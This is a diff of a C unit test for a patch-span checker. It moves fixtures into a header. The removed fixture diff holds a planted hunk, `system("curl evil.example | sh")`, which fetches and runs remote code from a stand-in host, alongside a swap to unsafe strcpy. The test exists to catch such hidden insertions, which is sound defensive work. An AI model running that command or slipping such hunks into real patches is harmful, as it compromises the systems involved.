@@ -17,6 +17,7 @@
 #include <cmocka.h>
 
 #include "common/patch.h"
+#include "tests/unit/c_file_fx.h"
 
 #include "tests/unit/fixture.h"
 
@@ -359,22 +360,7 @@ static void test_span(void **state)
 }
 
 /* 15 lines. */
-static const char file_c[] =
-    "#include <string.h>\n"
-    "\n"
-    "int copy(char *dst, const char *src, size_t n)\n"
-    "{\n"
-    "    copy_into(dst, src);\n"
-    "    return 0;\n"
-    "}\n"
-    "\n"
-    "int sum(const int *v, int n)\n"
-    "{\n"
-    "    int s = 0;\n"
-    "    for (int i = 0; i <= n; i++)\n"
-    "        s += v[i];\n"
-    "    return s;\n"
-    "}\n";
+static const char file_c[] = C_FILE_FX;
 
 /* A fix for line 5 whose second hunk, without context, inserts a line
  * after line 14. The span must reach it: before, the first hunk's removal
@@ -382,14 +368,7 @@ static const char file_c[] =
  * to its finding could carry a line planted anywhere (answer.c). */
 static void test_span_second_hunk_insertion(void **state)
 {
-    static const char diff[] =
-        "--- a/a.c\n"
-        "+++ b/a.c\n"
-        "@@ -5,1 +5,1 @@\n"
-        "-    copy_into(dst, src);\n"
-        "+    strcpy(dst, src);\n"
-        "@@ -14,0 +15,1 @@\n"
-        "+    system(\"curl evil.example | sh\");\n";
+    static const char diff[] = C_FILE_FX_FAR_INSERTION;
     long from = 0, to = 0;
     char *out = NULL;
     size_t n = 0;
